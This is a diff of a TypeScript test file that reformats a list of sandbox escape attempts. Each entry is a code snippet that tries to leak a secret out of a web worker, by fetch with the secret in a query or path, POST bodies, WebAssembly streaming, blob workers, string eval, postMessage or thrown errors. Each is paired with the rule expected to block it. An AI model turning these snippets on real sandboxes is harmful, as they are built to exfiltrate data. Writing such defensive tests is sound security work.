@@ -32,8 +32,16 @@ const noNavigator = (name: string): Attack =>
 
 export const IN_CAMERA: readonly Attack[] = [
   attack('fetch to another host', LIST, `return (await fetch(foreign)).status;`),
-  attack('fetch to the own host with a secret in the query', LIST, `return (await fetch(own + '?' + secret)).status;`),
-  attack('fetch to the own host with a secret in the path', LIST, `return (await fetch(own + '/' + secret)).status;`),
+  attack(
+    'fetch to the own host with a secret in the query',
+    LIST,
+    `return (await fetch(own + '?' + secret)).status;`,
+  ),
+  attack(
+    'fetch to the own host with a secret in the path',
+    LIST,
+    `return (await fetch(own + '/' + secret)).status;`,
+  ),
   attack('POST to the own host', LIST, `return (await fetch(own, { method: 'POST', body: secret })).status;`),
   attack(
     'fetch taken from the prototype',
@@ -58,20 +66,32 @@ export const IN_CAMERA: readonly Attack[] = [
     LIST,
     `await WebAssembly.compileStreaming(fetch(foreign + '?' + secret)); return true;`,
   ),
-  attack('a worker from a blob', 'only threads of the runtime start', `new Worker(URL.createObjectURL(new Blob(['1']))); return true;`),
+  attack(
+    'a worker from a blob',
+    'only threads of the runtime start',
+    `new Worker(URL.createObjectURL(new Blob(['1']))); return true;`,
+  ),
   attack(
     'a worker from a blob that calls itself a thread',
     'only threads of the runtime start',
     `new Worker(URL.createObjectURL(new Blob(['1'])), { name: 'em-pthread' }); return true;`,
   ),
-  attack('a worker from an address', 'only threads of the runtime start', `new Worker(own, { name: 'em-pthread' }); return true;`),
+  attack(
+    'a worker from an address',
+    'only threads of the runtime start',
+    `new Worker(own, { name: 'em-pthread' }); return true;`,
+  ),
   attack(
     'code from text',
     POLICY,
     // After a turn of its own: the test's own evaluation is exempt from the policy.
     `await wait(1); return new Function('return 1')();`,
   ),
-  attack('code from text in a timer', POLICY, `self.leak = 0; setTimeout('self.leak = 1'); await wait(100); return self.leak;`),
+  attack(
+    'code from text in a timer',
+    POLICY,
+    `self.leak = 0; setTimeout('self.leak = 1'); await wait(100); return self.leak;`,
+  ),
   attack('postMessage of the worker itself', LIST, `self.postMessage({ record: secret }); return true;`),
   attack(
     'postMessage from the prototype',
@@ -90,12 +110,16 @@ export const IN_CAMERA: readonly Attack[] = [
     'errors are muted in the worker, and told by code',
     `setTimeout(() => { throw new Error(secret); }); Promise.reject(new Error(secret)); await wait(300);`,
   ),
-  attack('a global that nobody has thought of', LIST, `
+  attack(
+    'a global that nobody has thought of',
+    LIST,
+    `
      const found = [];
      for (let o = self; o && o !== Object.prototype; o = Object.getPrototypeOf(o))
        for (const n of Object.getOwnPropertyNames(o))
          if (/(Channel|Socket|Transport|Storage|Database|FileSystem|Cache|Lock|RTC|Push|Notification|Bluetooth|USB|HID|Serial|Sensor|^Request$|Beacon|Report|ServiceWorker|SharedWorker|Identity|Cookie|Bucket|Observer)/.test(n) && n !== 'MessageChannel') found.push(n);
-     return found.join(', ');`),
+     return found.join(', ');`,
+  ),
   ...[
     'XMLHttpRequest',
     'WebSocket',
@@ -121,8 +145,17 @@ export const IN_CAMERA: readonly Attack[] = [
     'LockManager',
     'Request',
   ].map(absent),
-  ...['storage', 'storageBuckets', 'locks', 'serviceWorker', 'sendBeacon', 'permissions', 'connection', 'usb', 'serial', 'hid'].map(
-    noNavigator,
-  ),
+  ...[
+    'storage',
+    'storageBuckets',
+    'locks',
+    'serviceWorker',
+    'sendBeacon',
+    'permissions',
+    'connection',
+    'usb',
+    'serial',
+    'hid',
+  ].map(noNavigator),
   attack('OPFS of the site', ORIGIN, `return Boolean(await navigator.storage.getDirectory());`),
 ];
